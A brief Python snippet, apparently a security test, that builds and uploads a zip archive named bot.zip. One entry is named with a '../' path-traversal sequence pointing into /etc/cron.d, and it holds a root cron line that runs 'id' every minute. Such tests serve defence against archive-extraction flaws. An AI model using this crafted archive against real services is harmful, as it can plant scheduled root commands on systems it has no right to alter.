"""The name is written as it is; no tool would write it."""

from making import LEGAL, entry, upload, zipped

upload("bot.zip", zipped(("main.py", LEGAL), (entry("lib/../../../../../etc/cron.d/bot"), b"* * * * * root id\n")))
